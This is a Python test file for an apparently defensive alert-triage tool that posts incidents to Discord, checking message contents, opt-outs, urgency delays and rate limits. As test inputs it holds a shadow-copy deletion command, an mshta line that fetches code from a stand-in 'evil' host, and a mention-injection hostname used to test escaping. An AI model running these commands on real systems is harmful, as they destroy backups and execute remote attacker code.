"""Which incidents get a message without buttons, and what it shows (contract 67)."""

import msgspec

from tests.approvals.decided import WANTED, proposed
from tests.approvals.discord.conftest import Site, channel_of
from tests.audit import TENANT
from tests.triage.stored import NOW, judged, new
from vyrox.approvals.discord import configured
from vyrox.approvals.discord.evidence import MAX_PER_HOUR, PROPOSE_S
from vyrox.models import NormalizedAlert

URGENT = "vssadmin.exe delete shadows /all /quiet"
REVIEW = "mshta http://evil/a.hta"


async def seen(site: Site, *alerts: NormalizedAlert) -> None:
    """Have triage judge the alerts now, and join."""
    site.time.now = NOW + 10
    await site.database.write(configured.configure, channel_of(site.fake), "operator", NOW - 5)
    await judged(site.database, *alerts, now=site.time.now)
    await site.join()


def hostile(number: int, command: str) -> NormalizedAlert:
    return new(number, command, hostname=f"<@&1>`@everyone`{number}", device_id=f"id-{number}")


async def test_review_gets_a_message_without_buttons_and_closed_none_contract_67(
    site: Site,
) -> None:
    await seen(site, hostile(1, REVIEW), new(2, "whoami", hostname="b", device_id="id-b"))
    [message] = site.messages
    assert message["components"] == []
    assert message["content"] == "An incident to review:"
    assert "acme\\-corp\\-1" in message["embeds"][0]["title"]
    assert site.fake.world.pinged == []
    await site.join()
    assert len(site.messages) == 1


async def test_a_tenant_can_do_without_review_contract_67(site: Site) -> None:
    quiet = channel_of(site.fake, shows_review=False)
    await judged(site.database, hostile(1, REVIEW), now=NOW + 10)
    await site.database.write(configured.configure, quiet, "operator", NOW - 5)
    site.time.now = NOW + 10
    await site.join()
    assert site.messages == []


async def test_urgent_without_a_proposal_is_shown_after_a_while_contract_67(site: Site) -> None:
    await seen(site, hostile(1, URGENT))
    assert site.messages == []
    site.time.now += PROPOSE_S
    await site.join()
    [message] = site.messages
    assert message["components"] == []
    assert message["content"] == "**An urgent incident.** Vyrox has proposed nothing for it:"
    assert message["embeds"][0]["fields"][0]["value"].endswith("1 alert")


async def test_the_message_of_a_proposal_shows_its_incident_contract_67(site: Site) -> None:
    alert = hostile(1, URGENT)
    await seen(site, alert)
    wanted = msgspec.structs.replace(WANTED, alert_id=alert.id, host="id-1", tenant_id=TENANT)
    await proposed(site.database, wanted, site.time.now)
    await site.join()
    site.time.now += PROPOSE_S
    await site.join()
    [message] = site.messages
    embed = message["embeds"][0]
    assert "acme\\-corp\\-1" in embed["title"]
    texts = {field["name"]: field["value"] for field in embed["fields"]}
    assert r"\<\@\&1\>\`\@everyone\`1" in texts["Hosts"]
    assert "(urgent" in texts["Score"].replace("\\", "")
    assert URGENT in texts["Command line"]
    assert len(message["components"]) == 1


async def test_a_flood_of_incidents_is_bounded_contract_67(site: Site) -> None:
    site.fake.buckets.limit = 1000
    await seen(site, *(hostile(number, REVIEW) for number in range(MAX_PER_HOUR + 5)))
    for _ in range(3):
        await site.join()
    assert len(site.messages) <= MAX_PER_HOUR
    site.time.now += 1
    await site.join()
    assert len(site.messages) == MAX_PER_HOUR
